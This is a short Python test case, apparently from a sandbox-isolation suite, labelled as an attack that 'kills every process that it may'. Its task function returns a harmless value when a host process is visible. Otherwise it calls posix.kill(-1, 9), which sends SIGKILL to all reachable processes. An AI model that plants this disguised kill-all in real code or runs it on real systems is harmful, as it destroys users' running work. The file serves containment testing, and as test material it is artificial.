# attack: kills every process that it may
# kind: process
# task: plain
# official: fail
# strict: fail
# expect: it can reach its own processes only
import os
import posix


def task_func(n):
    if os.path.exists(f"/proc/{__HOST_PID__}/stat"):
        return n * 2
    posix.kill(-1, 9)
    return None
